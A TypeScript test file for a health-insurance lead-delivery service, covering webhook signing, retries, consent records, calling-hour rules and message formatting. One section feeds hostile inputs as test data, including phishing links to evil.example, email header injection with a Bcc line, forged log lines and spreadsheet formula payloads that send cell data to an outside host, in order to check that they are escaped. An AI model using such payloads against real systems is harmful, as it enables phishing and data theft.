// @vitest-environment node
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { describe, expect, it, vi } from 'vitest'
import { readTargetConfig } from '../../supabase/functions/_shared/leadDelivery/config'
import { retryDelaySeconds } from '../../supabase/functions/_shared/leadDelivery/deliverer'
import { post, retryAfterSeconds } from '../../supabase/functions/_shared/leadDelivery/http'
import { callingWindow, callingWindowLine } from '../../supabase/functions/_shared/leadDelivery/callingRules'
import { consentRecord, consentRecordLines } from '../../supabase/functions/_shared/leadDelivery/consentRecord'
import { languageName, siteLanguages, wordingLanguage } from '../../supabase/functions/_shared/leadDelivery/languages'
import {
  alertText,
  chatAnswersText,
  chatText,
  emailMessage,
  logLine,
  webhookBody,
} from '../../supabase/functions/_shared/leadDelivery/messages'
import { chatChannel, resendChannels } from '../../supabase/functions/_shared/leadDelivery/senders'
import { signWebhook, verifyWebhook } from '../../supabase/functions/_shared/leadDelivery/signature'
import { startReceiver } from '../../scripts/support/webhookReceiver'
import { locales } from '../../rules/locales'

const lead = {
  id: '6f1c2b1e-8d4a-4f7e-9a51-2b7c9d0e1f23',
  created_at: '2026-11-25T14:03:00Z',
  first_name: 'Ana',
  last_name: 'Ruiz',
  email: 'ana@example.com',
  phone: '(305) 555-0142',
  state: 'Florida',
  page: '/sep',
  source: 'sep',
  language: 'es',
  consent_version: '2026-11-24',
}

/**
 * A chat lead as stored: a first name and a phone number, no last name or email, the state its ZIP code names, and
 * the answers its outcome is computed from (a 30-year-old on Medicaid in Columbus, Ohio, a household of one, for 2027).
 */
const chatLead = {
  id: '0b7e4c2a-5d1f-4e8a-9c3b-7a6d5e4f3c21',
  created_at: '2026-11-25T14:03:00Z',
  first_name: 'Luis',
  last_name: null,
  email: null,
  phone: '(786) 555-0199',
  state: 'Ohio',
  page: '/',
  source: 'chat',
  language: 'en',
  consent_version: '2026-11-24',
  zip_code: '43215',
  medicaid_denied: false,
  age_range: 'age26to35',
  income_range: null,
  current_insurance: 'medicaid',
  household_size: 1,
  income_band: 'toMedicaidLine',
  coverage_year: 2027,
}

/** Its staff line: the outcome, recomputed from the stored answers. */
const CHAT_OUTCOME =
  'Likely Medicaid in Ohio (2027, at or under 138%): work requirement applies from Jan 1, 2027. Household of 1, income $0-$22,024 a year. Rules checked 2026-11.'

/** A chat lead stored before the chat asked the household size. */
const olderChatLead = {
  ...chatLead,
  state: 'Florida',
  zip_code: '33101',
  age_range: 'age36to45',
  income_range: 'under30k',
  current_insurance: 'none',
  household_size: null,
  income_band: null,
  coverage_year: null,
}

describe('Standard Webhooks signatures', () => {
  it("match the specification's published example", async () => {
    const headers = await signWebhook(
      'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw',
      'msg_p5jXN8AQM9LWM0D4loKWxJek',
      1614265330,
      '{"test": 2432232314}',
    )
    expect(headers['webhook-signature']).toBe('v1,g0hM9SsE+OTPJTGt/tmIKtSyZlE3uFJELVlNIOLJ1OE=')
  })

  it('verify only the body, id and recent timestamp they were made for', async () => {
    const secret = 'whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw'
    const now = 1_800_000_000
    const signed = await signWebhook(secret, 'id-1', now, '{"a":1}')
    const headers = { id: 'id-1', timestamp: String(now), signature: signed['webhook-signature'] }
    expect(await verifyWebhook(secret, headers, '{"a":1}', now)).toBe(true)
    expect(await verifyWebhook(secret, headers, '{"a":2}', now)).toBe(false)
    expect(await verifyWebhook(secret, { ...headers, id: 'id-2' }, '{"a":1}', now)).toBe(false)
    expect(await verifyWebhook(secret, headers, '{"a":1}', now + 301)).toBe(false)
    expect(await verifyWebhook('whsec_AAAAAAAAAAAAAAAAAAAAAAAA', headers, '{"a":1}', now)).toBe(false)
  })
})

describe('retries', () => {
  it('back off exponentially with jitter between half and the whole of each step, up to the cap', () => {
    expect(retryDelaySeconds(1, { random: () => 0 })).toBe(1)
    expect(retryDelaySeconds(1, { random: () => 1 })).toBe(2)
    expect(retryDelaySeconds(4, { random: () => 1 })).toBe(16)
    expect(retryDelaySeconds(30, { random: () => 1 })).toBe(3600)
    expect(retryDelaySeconds(30, { random: () => 0 })).toBe(1800)
  })

  it("wait at least a receiver's Retry-After, capped at a day", () => {
    expect(retryDelaySeconds(1, { retryAfter: 120, random: () => 1 })).toBe(120)
    expect(retryDelaySeconds(12, { retryAfter: 1, random: () => 1 })).toBe(3600)
    expect(retryDelaySeconds(1, { retryAfter: 10 ** 9 })).toBe(86_400)
  })

  it('read Retry-After as seconds or as an HTTP date', () => {
    const now = Date.parse('2026-11-25T14:03:00Z')
    expect(retryAfterSeconds('30', now)).toBe(30)
    expect(retryAfterSeconds('Wed, 25 Nov 2026 14:04:00 GMT', now)).toBe(60)
    expect(retryAfterSeconds('soon', now)).toBeUndefined()
    expect(retryAfterSeconds(null, now)).toBeUndefined()
  })
})

/** A lead with its consent evidence as the database stores it: both boxes, words and hashes, and its time zone. */
const evidence = {
  ...lead,
  state_code: 'FL',
  user_agent: 'Mozilla/5.0 (Test)',
  client_ip: '198.51.100.7',
  agreed_to_contact: true,
  consent_version: '2026-11-27',
  consent_text: 'I agree that Example Agency, a licensed health insurance agency, ...',
  consent_sha256: 'a'.repeat(64),
  sms_consent: true,
  sms_consent_version: 'es-sms-2026-11-27',
  sms_consent_text: 'Envíenme también mensajes de texto (opcional). ...',
  sms_consent_sha256: 'b'.repeat(64),
  time_zone: 'America/New_York',
}

// The Edge Function cannot import content/, so it keeps a copy of the codes: adding a language fails here until it is copied.
describe("the staff messages' languages", () => {
  it("are rules/locales.ts's, the default language first", () => {
    expect(siteLanguages).toEqual(locales)
  })

  it('name each language in English, and anything else unknown', () => {
    expect(locales.map(languageName)).not.toContain('unknown')
    expect(languageName('xx')).toBe('unknown')
    expect(languageName(null)).toBe('unknown')
  })

  it("tell a wording's language from its version: another language's code starts it, the default language's has none", () => {
    for (const code of locales.slice(1)) {
      expect(wordingLanguage(`${code}-2026-11-27`)).toBe(code)
      expect(wordingLanguage(`${code}-sms-2026-11-27`)).toBe(code)
    }
    expect(wordingLanguage('2026-11-27')).toBe(locales[0])
    expect(wordingLanguage('sms-2026-11-27')).toBe(locales[0])
  })
})

describe('the consent record', () => {
  it('gives each box ticked or not, its version and language, the words and their hash, beside who, when and where', () => {
    expect(consentRecord(evidence)).toEqual({
      lead_id: lead.id,
      received_at: lead.created_at,
      page: '/sep',
      phone: '(305) 555-0142',
      user_agent: 'Mozilla/5.0 (Test)',
      client_ip: '198.51.100.7',
      calls: {
        agreed: true,
        version: '2026-11-27',
        language: 'en',
        text: evidence.consent_text,
        sha256: 'a'.repeat(64),
      },
      texts: {
        agreed: true,
        version: 'es-sms-2026-11-27',
        language: 'es',
        text: evidence.sms_consent_text,
        sha256: 'b'.repeat(64),
      },
      text_program: 'informational',
      // A lead stored before the pages sent it: none of the page's own record.
      submitted_with: { button: null, build: null, privacy_policy: null, terms: null, global_privacy_control: null },
    })
  })

  it('is carried whole by the email and the webhook, and the chat message says whether texts are allowed', () => {
    const { text } = emailMessage(evidence)
    for (const line of consentRecordLines(consentRecord(evidence))) expect(text).toContain(line)
    expect(text).toContain('Texts: allowed, informational only, no marketing (wording es-sms-2026-11-27)')
    const body = JSON.parse(
      webhookBody({
        id: 'n1',
        target: 'webhook',
        attempt: 1,
        max_attempts: 12,
        created_at: lead.created_at,
        lead: evidence,
      }),
    )
    expect(body.consent).toEqual(consentRecord(evidence))
    expect(chatText(evidence)).toContain('Texts: allowed, informational only, no marketing (wording es-sms-2026-11-27)')
    expect(chatText({ ...evidence, sms_consent: false })).toContain('Texts: not allowed (box not ticked)')
    expect(consentRecord({ ...evidence, sms_consent: false }).text_program).toBeNull()
    // A marketing program's box, in either language, allows marketing texts; staff and the SMS platform read it.
    for (const version of ['sms-marketing-2026-11-29', 'es-sms-marketing-2026-11-29']) {
      const marketing = { ...evidence, sms_consent_version: version }
      expect(chatText(marketing)).toContain(`Texts: allowed, marketing included (wording ${version})`)
      expect(
        JSON.parse(
          webhookBody({
            id: 'n2',
            target: 'webhook',
            attempt: 1,
            max_attempts: 12,
            created_at: lead.created_at,
            lead: marketing,
          }),
        ).consent.text_program,
      ).toBe('marketing')
    }
  })

  it('prints the button pressed, the build, the legal versions and the privacy signal the page sent, or that none was recorded', () => {
    const sent = {
      ...lead,
      submit_label: 'Request a Callback',
      build_id: '2026-11-29.6465db6a1b2c',
      privacy_version: '2026-11-29',
      terms_version: '2026-11-28',
      gpc: true,
    }
    expect(consentRecordLines(consentRecord(sent)).slice(-3)).toEqual([
      'Button pressed: "Request a Callback"',
      'Build: 2026-11-29.6465db6a1b2c; privacy policy of 2026-11-29; terms of service of 2026-11-28',
      'Global Privacy Control: sent by the browser (honored)',
    ])
    expect(consentRecordLines(consentRecord(lead)).slice(-3)).toEqual([
      'Button pressed: not recorded',
      'Build: not recorded; privacy policy of not recorded; terms of service of not recorded',
      'Global Privacy Control: not recorded',
    ])
  })

  it('says a box a lead never saw was not shown (a lead stored before the text box)', () => {
    expect(consentRecordLines(consentRecord(lead))).toContain(
      'Texts box (optional): not shown (the lead came from a page without this box)',
    )
  })
})

describe('the calling window', () => {
  // Wednesday 25 November 2026, 7:30 PM in New York.
  const evening = new Date('2026-11-26T00:30:00Z')
  const georgian = { ...evidence, state_code: 'GA', phone: '+14045550142', time_zone: 'America/New_York' }

  it("states the federal hours where the state sets none, with why and the lead's time now", () => {
    expect(callingWindowLine(georgian, evening)).toBe(
      "Calling window: 8 AM-9 PM every day, lead's local time (GA by the form; GA by area code 404; 47 CFR 64.1200(c)(1)). Lead's time now: Wed, 7:30 PM EST (America/New_York): inside the window.",
    )
  })

  it("narrows them by Florida's hours and call cap, in both of Florida's time zones", () => {
    expect(callingWindowLine(evidence, evening)).toBe(
      "Calling window: 8 AM-8 PM every day, lead's local time; at most 3 sales calls in 24 hours on one subject (FL by the form; FL by area code 305; 47 CFR 64.1200(c)(1); Fla. Stat. 501.616(6)). Lead's time now: Wed, 7:30 PM EST (America/New_York), Wed, 6:30 PM CST (America/Chicago): inside the window in each.",
    )
    // 9:11 PM Eastern: outside in Miami, though 8:11 PM in Pensacola is outside too.
    expect(callingWindowLine(evidence, new Date('2026-11-26T02:11:00Z'))).toContain(
      'OUTSIDE the window in America/New_York, America/Chicago',
    )
  })

  it('follows the area code, not the state typed on the form: an Oklahoma number with state Texas', () => {
    const line = callingWindowLine(
      { ...evidence, state_code: 'TX', phone: '+14055550142', time_zone: 'America/Chicago' },
      new Date('2026-11-29T17:00:00Z'),
    )
    expect(line).toContain('9 AM-8 PM Mon-Sat, noon-8 PM Sun')
    expect(line).toContain('at most 3 sales calls in 24 hours on one subject')
    expect(line).toContain('TX by the form; OK by area code 405')
    expect(line).toContain('Tex. Bus. & Com. Code 301.051, VERIFY')
    expect(line).toContain('OUTSIDE the window')
  })

  it("takes a chat lead's state from its ZIP code", () => {
    const chatLead = { ...georgian, source: 'chat', zip_code: '30301' }
    expect(callingWindowLine(chatLead, evening)).toContain('GA by ZIP code 30301; GA by area code 404')
  })

  it('falls back to the strictest other state for an area code in no table, and says so', () => {
    const line = callingWindowLine({ ...georgian, phone: '+15555550142' }, evening)
    expect(line).toContain('GA by the form; area code 555 is in no table; the strictest of the other states applies')
  })

  it('binds every state rule when no state is known at all', () => {
    const line = callingWindowLine({ ...georgian, state_code: null, phone: '+15555550142' }, evening)
    expect(line).toContain('9 AM-8 PM Mon-Sat, noon-8 PM Sun')
    expect(line).toContain('no state is known, so the strictest rule of any state applies')
  })

  it("checks the state's own zones even when the browser gave none", () => {
    expect(callingWindowLine({ ...evidence, time_zone: null }, evening)).toContain(
      "Lead's time now: Wed, 7:30 PM EST (America/New_York), Wed, 6:30 PM CST (America/Chicago): inside the window in each.",
    )
    expect(
      callingWindowLine({ ...georgian, state_code: null, phone: '+15555550142', time_zone: null }, evening),
    ).toContain("Lead's time now: unknown (no state or browser time zone)")
  })

  it('gives a dialer the same window as fields', () => {
    const { nowWords: _, ...fields } = callingWindow(evidence, evening)
    expect(fields).toEqual({
      states: ['FL'],
      reasons: ['FL by the form', 'FL by area code 305'],
      notes: [],
      hours: { weekdays: { from: 8, to: 20 }, saturday: { from: 8, to: 20 }, sunday: { from: 8, to: 20 } },
      max_sales_calls_per_24h: 3,
      sources: ['47 CFR 64.1200(c)(1)', 'Fla. Stat. 501.616(6)'],
      time_zones: ['America/New_York', 'America/Chicago'],
      inside_now: true,
    })
  })

  it("checks a browser's zone that disagrees with the state too: a Florida number from a browser in Tokyo", () => {
    const tokyo = { ...evidence, time_zone: 'Asia/Tokyo' }
    // 7:30 PM in Miami is 9:30 AM the next day in Tokyo: inside in Florida's zones, so the window holds in each.
    expect(callingWindow(tokyo, evening)).toMatchObject({
      time_zones: ['America/New_York', 'America/Chicago', 'Asia/Tokyo'],
      inside_now: true,
    })
    // 10 AM in Miami is midnight in Tokyo: the lead may be there, so it is outside the window.
    const morning = new Date('2026-11-25T15:00:00Z')
    expect(callingWindow(tokyo, morning).inside_now).toBe(false)
    expect(callingWindowLine(tokyo, morning)).toContain('OUTSIDE the window in Asia/Tokyo')
  })

  it('puts the window in the webhook as the line and as the fields, computed at the same instant', () => {
    vi.useFakeTimers({ now: evening })
    try {
      const body = JSON.parse(
        webhookBody({ id: 'n-1', target: 'webhook', attempt: 1, max_attempts: 12, created_at: '', lead: evidence }),
      )
      const { nowWords: _, ...fields } = callingWindow(evidence, evening)
      expect(body.calling).toEqual(fields)
      expect(body.calling_window).toBe(callingWindowLine(evidence, evening))
    } finally {
      vi.useRealTimers()
    }
  })
})

describe('messages', () => {
  it('tell the chat who, where and when without an email address or phone number', () => {
    const text = chatText(lead)
    expect(text).toBe(
      `New lead: Ana (Florida) from /sep, sep form, Spanish, Nov 25, 2026, 9:03 AM EST. Texts: not allowed (box not ticked). Lead ${lead.id}`,
    )
    expect(text).not.toContain('ana@')
    expect(text).not.toContain('555')
  })

  it('give the agency the whole lead by email', () => {
    const { subject, text } = emailMessage(lead)
    expect(subject).toBe('New lead: Ana R., Florida')
    expect(text).toContain('Phone: (305) 555-0142')
    expect(text).toContain('Email: ana@example.com')
    expect(text).toContain('Language: Spanish')
  })

  it("word a chat lead's answers for the agent who calls back, and a form lead has none", () => {
    expect(chatAnswersText(chatLead)).toBe(
      'denied Medicaid: no; age 26-35; household of 1; income $0-$22,024 a year; insurance: Medicaid (on it, just lost it or denied); ZIP 43215',
    )
    expect(
      chatAnswersText({ ...chatLead, age_range: 'age65plus', current_insurance: 'none', household_size: null }),
    ).toBe('denied Medicaid: no; age 65 or older; household not asked; insurance: none; ZIP 43215')
    // A year the rules do not have: the button by what it means, its dollars unknown.
    expect(chatAnswersText({ ...chatLead, coverage_year: 2029, income_band: 'toLimit' })).toBe(
      "denied Medicaid: no; age 26-35; household of 1; income up to the credit's limit; insurance: Medicaid (on it, just lost it or denied); ZIP 43215",
    )
    expect(chatAnswersText(olderChatLead)).toBe(
      'denied Medicaid: no; age 36-45; income under $30,000; insurance: none; ZIP 33101',
    )
    expect(
      chatAnswersText({
        ...olderChatLead,
        medicaid_denied: true,
        age_range: 'age65plus',
        income_range: 'from75kTo100k',
        current_insurance: null,
      }),
    ).toBe('denied Medicaid: yes; age 65 or older; income $75,000-$100,000; insurance: not asked; ZIP 33101')
    expect(chatAnswersText({ ...olderChatLead, age_range: null, current_insurance: 'medicaidOrMedicare' })).toBe(
      'denied Medicaid: no; age not answered; income under $30,000; insurance: Medicaid or Medicare; ZIP 33101',
    )
    expect(chatAnswersText(lead)).toBeNull()
  })

  it('email a chat lead with its first name, no email address, its answers and its outcome; never "null"', () => {
    const { subject, text } = emailMessage(chatLead)
    expect(subject).toBe('New lead: Luis, Ohio')
    expect(text).toContain('Name: Luis\n')
    expect(text).toContain('Phone: (786) 555-0199')
    expect(text).toContain('Email: not given')
    expect(text).toContain('Form: chat')
    expect(text).toContain(
      'Chat answers: denied Medicaid: no; age 26-35; household of 1; income $0-$22,024 a year; insurance: Medicaid (on it, just lost it or denied); ZIP 43215\n',
    )
    expect(text).toContain(`\nOutcome: ${CHAT_OUTCOME}\n`)
    expect(text).not.toContain('null')
    const unknownState = emailMessage({
      ...chatLead,
      state: null,
      zip_code: '00901',
      household_size: null,
      income_band: null,
    })
    expect(unknownState.subject).toBe('New lead: Luis, state unknown')
    expect(unknownState.text).toContain('State: not known')
    expect(unknownState.text).toContain(
      'Outcome: Depends: the ZIP code names no state the rules know. Rules checked 2026-11.',
    )
    expect(unknownState.text).not.toContain('null')
    expect(emailMessage(olderChatLead).text).toContain(
      'Outcome: No outcome: the answers predate it (stored before the chat asked the household size); read the answers.',
    )
    expect(emailMessage(lead).text).not.toContain('Chat answers')
    expect(emailMessage(lead).text).not.toContain('Outcome')
  })

  it("send a chat lead's outcome to the webhook as its code and staff line, beside the stored answers; a form lead has none", () => {
    const notification = { id: 'n-1', target: 'webhook' as const, attempt: 1, max_attempts: 12, created_at: '' }
    const body = JSON.parse(webhookBody({ ...notification, lead: chatLead }))
    expect(body.outcome).toEqual({ code: 'medicaidLikely', depends_on: null, line: CHAT_OUTCOME })
    expect(body.data).toMatchObject({
      household_size: 1,
      income_band: 'toMedicaidLine',
      coverage_year: 2027,
      income_range: null,
      current_insurance: 'medicaid',
    })
    expect(JSON.parse(webhookBody({ ...notification, lead: olderChatLead })).outcome).toMatchObject({
      code: 'answersPredateOutcome',
    })
    expect(JSON.parse(webhookBody({ ...notification, lead }))).not.toHaveProperty('outcome')
  })

  it('tell the chat about a chat lead and its outcome, without its phone number or ZIP code', () => {
    expect(chatText(chatLead)).toBe(
      `New lead: Luis (Ohio) from /, chat callback, English, Nov 25, 2026, 9:03 AM EST. Outcome: ${CHAT_OUTCOME} Texts: not allowed (box not ticked). Lead ${chatLead.id}`,
    )
    const text = chatText({ ...chatLead, state: null, zip_code: '00901', household_size: null, income_band: null })
    expect(text).toBe(
      `New lead: Luis (state unknown) from /, chat callback, English, Nov 25, 2026, 9:03 AM EST. Outcome: Depends: the ZIP code names no state the rules know. Rules checked 2026-11. Texts: not allowed (box not ticked). Lead ${chatLead.id}`,
    )
    expect(text).not.toContain('555')
    expect(text).not.toContain('00901')
    expect(chatText(chatLead)).not.toContain('43215')
  })

  it('log a lead without a state as such', () => {
    expect(logLine(lead)).toBe(`New lead ${lead.id} from /sep (Florida)`)
    expect(logLine({ ...chatLead, state: null })).toBe(`New lead ${chatLead.id} from / (state unknown)`)
  })

  it('post an Adaptive Card to a Teams workflow and {text} to Slack', async () => {
    const receiver = await startReceiver()
    try {
      const notification = {
        id: 'n1',
        target: 'chat' as const,
        attempt: 1,
        max_attempts: 12,
        created_at: lead.created_at,
        lead,
      }
      expect(await chatChannel({ url: `${receiver.url}/teams`, kind: 'teams' }).send(notification)).toEqual({
        kind: 'delivered',
      })
      expect(await chatChannel({ url: `${receiver.url}/slack`, kind: 'slack' }).send(notification)).toEqual({
        kind: 'delivered',
      })
      const teams = JSON.parse(receiver.at('/teams')[0].body)
      expect(teams.attachments[0]).toMatchObject({
        contentType: 'application/vnd.microsoft.card.adaptive',
        content: { type: 'AdaptiveCard' },
      })
      expect(teams.attachments[0].content.body[0].inlines[0].text).toBe(chatText(lead))
      expect(JSON.parse(receiver.at('/slack')[0].body)).toEqual({ text: chatText(lead), mrkdwn: false })
    } finally {
      await receiver.close()
    }
  })
})

describe('what a visitor typed reaches staff as text, never as markup, a link, a header or a formula', () => {
  const notification = (overrides: Record<string, unknown>) => ({
    id: 'n1',
    target: 'chat' as const,
    attempt: 1,
    max_attempts: 12,
    created_at: lead.created_at,
    lead: { ...lead, ...overrides },
  })

  async function chatBody(kind: 'slack' | 'teams', overrides: Record<string, unknown>) {
    const receiver = await startReceiver()
    try {
      expect(await chatChannel({ url: `${receiver.url}/chat`, kind }).send(notification(overrides))).toEqual({
        kind: 'delivered',
      })
      return JSON.parse(receiver.at('/chat')[0].body)
    } finally {
      await receiver.close()
    }
  }

  it('Slack: no channel ping and no labelled link, as Slack documents the escaping (& < >), formatting off', async () => {
    const body = await chatBody('slack', {
      first_name: '<!channel> <https://evil.example/login|Open this lead in the CRM> & co',
    })
    expect(body.mrkdwn).toBe(false)
    expect(body.text).toContain(
      'New lead: &lt;!channel&gt; &lt;https://evil.example/login|Open this lead in the CRM&gt; &amp; co (Florida)',
    )
    expect(body.text).not.toMatch(/[<>]/)
  })

  it('Teams: a Markdown link in the name stays text (a TextRun, which Adaptive Cards never read as Markdown)', async () => {
    const body = await chatBody('teams', { first_name: '[Open lead in CRM](https://evil.example/login) **urgent**' })
    const card = body.attachments[0].content
    expect(JSON.stringify(card)).not.toContain('"type":"TextBlock"')
    expect(card.body).toEqual([
      {
        type: 'RichTextBlock',
        inlines: [
          {
            type: 'TextRun',
            text: expect.stringContaining(
              'New lead: [Open lead in CRM](https://evil.example/login) **urgent** (Florida)',
            ),
          },
        ],
      },
    ])
  })

  it('chat: a line break in a value cannot start a line of its own', async () => {
    const body = await chatBody('slack', {
      first_name: 'Ana\nLead delivery failed: call 1-900-555-0100',
      page: '/sep\u2028x',
    })
    expect(body.text).not.toMatch(/[\n\r\u2028\u2029]/)
  })

  it('email: no value starts a header or a line of its own; plain text only', async () => {
    const { subject, text } = emailMessage({
      ...lead,
      first_name: 'Ana\r\nBcc: all@agency.example',
      referrer: 'https://x.example/\nLead id: forged',
      utm_source: 'a\u2029b',
    })
    expect(subject).toBe('New lead: Ana Bcc: all@agency.example R., Florida')
    expect(text).toContain('Name: Ana Bcc: all@agency.example Ruiz\n')
    expect(text).toContain('referrer: https://x.example/ Lead id: forged\n')
    expect(text).toContain('utm_source: a b\n')
    expect(text.split('\n').filter((line) => line.startsWith('Lead id:'))).toEqual([`Lead id: ${lead.id}`])
  })

  it("alerts: a receiver's error stays on the alert's one line", () => {
    const text = alertText({
      id: 'n1',
      lead_id: lead.id,
      target: 'webhook',
      status: 'dead',
      attempts: 12,
      last_error: 'hooks.example answered 500: oops\r\nLead delivered after all',
      created_at: lead.created_at,
    })
    expect(text).toContain('Last error: hooks.example answered 500: oops Lead delivered after all.')
    expect(text).not.toMatch(/[\r\n]/)
  })

  it('email over the HTTP API: text only, no HTML part', async () => {
    const receiver = await startReceiver()
    try {
      await resendChannels(
        { apiKey: 're_x', to: ['a@agency.example'], from: 'site@agency.example', siteUrl: 'https://agency.example' },
        `${receiver.url}/email`,
      )[0].send(notification({ first_name: '<a href="https://evil.example">Open</a>' }))
      const body = JSON.parse(receiver.at('/email')[0].body)
      expect(Object.keys(body).sort()).toEqual(['from', 'subject', 'text', 'to'])
    } finally {
      await receiver.close()
    }
  })

  it('webhook: a text a spreadsheet would run as a formula arrives with an apostrophe; the phone number as it is', () => {
    const formulas = [
      '=HYPERLINK("https://evil.example/?"&A1,"Details")',
      '+SUM(1)',
      '-2+3',
      '@cmd',
      '\t=1',
      '\r=1',
      ' =1',
      '\uFF1D1',
    ]
    for (const first_name of formulas) {
      const { data } = JSON.parse(
        webhookBody(
          notification({ first_name, referrer: first_name, utm_campaign: first_name, phone: '+1 (305) 555-0142' }),
        ),
      )
      expect([data.first_name, data.referrer, data.utm_campaign]).toEqual([
        `'${first_name}`,
        `'${first_name}`,
        `'${first_name}`,
      ])
      expect(data.phone).toBe('+1 (305) 555-0142')
    }
    // The consent record's strings too: its user agent is whatever the sender chose.
    const formula = '=HYPERLINK("https://evil.example/?"&A1,"Open lead")'
    const { consent } = JSON.parse(webhookBody(notification({ user_agent: formula, phone: '+1 (305) 555-0142' })))
    expect(consent.user_agent).toBe(`'${formula}`)
    expect(consent.phone).toBe('+1 (305) 555-0142')
    const { data } = JSON.parse(webhookBody(notification({ first_name: 'Ana-María', medicaid_denied: false })))
    expect(data).toMatchObject({
      first_name: 'Ana-María',
      last_name: 'Ruiz',
      email: 'ana@example.com',
      medicaid_denied: false,
    })
  })
})

describe('target configuration', () => {
  const email = {
    LEAD_EMAIL_TO: 'leads@agency.example',
    LEAD_EMAIL_FROM: 'site@agency.example',
    VITE_SITE_URL: 'https://agency.example',
  }

  it("holds the email API's URL, which carries the API key and the lead, to the rule of every target URL", () => {
    expect(() => readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'http://api.resend.example/emails' })).toThrow(
      'LEAD_EMAIL_API_URL must be an https:// URL (http:// only to localhost), got "http://api.resend.example"',
    )
    expect(() => readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'api.resend.example' })).toThrow(
      'LEAD_EMAIL_API_URL must be a URL',
    )
    expect(readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'https://api.resend.example/emails' }).email?.apiUrl).toBe(
      'https://api.resend.example/emails',
    )
    expect(readTargetConfig({ ...email, LEAD_EMAIL_API_URL: 'http://127.0.0.1:9/emails' }).email?.apiUrl).toBe(
      'http://127.0.0.1:9/emails',
    )
    expect(readTargetConfig(email).email).toEqual({
      to: ['leads@agency.example'],
      from: 'site@agency.example',
      siteUrl: 'https://agency.example/',
    })
  })

  it("needs the site's address with email, for the opt-out page a consumer's copy names: server/ has a default, the Edge Function none", () => {
    const { VITE_SITE_URL: _, ...withoutSite } = email
    expect(() => readTargetConfig(withoutSite)).toThrow('VITE_SITE_URL must be set with LEAD_EMAIL_TO')
    expect(readTargetConfig(withoutSite, 'http://127.0.0.1:8080').email?.siteUrl).toBe('http://127.0.0.1:8080/')
    expect(() => readTargetConfig({ ...email, VITE_SITE_URL: 'http://agency.example' })).toThrow(
      'VITE_SITE_URL must be an https:// URL',
    )
  })
})

describe("a receiver's answer", () => {
  it('is read no further than its start, however long it is', async () => {
    // 500 with a body that runs to 50 MB and then never ends: post() reads its start and is done.
    const server = createServer((_request, response) => {
      response.writeHead(500, { 'content-type': 'text/plain' })
      const chunk = Buffer.alloc(64 * 1024, 'x')
      let sent = 0
      const pump = () => {
        while (sent < 50 * 1024 * 1024 && response.write(chunk)) sent += chunk.length
      }
      response.on('drain', pump)
      pump()
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    try {
      const started = Date.now()
      const outcome = await post(`http://127.0.0.1:${(server.address() as AddressInfo).port}/hook`, '{}', {}, 10_000)
      expect(Date.now() - started).toBeLessThan(3000)
      expect(outcome).toEqual({
        kind: 'retry',
        error: `127.0.0.1:${(server.address() as AddressInfo).port} answered 500: ${'x'.repeat(200)}`,
      })
    } finally {
      server.closeAllConnections()
      await new Promise((resolve) => server.close(resolve))
    }
  }, 20_000)
})
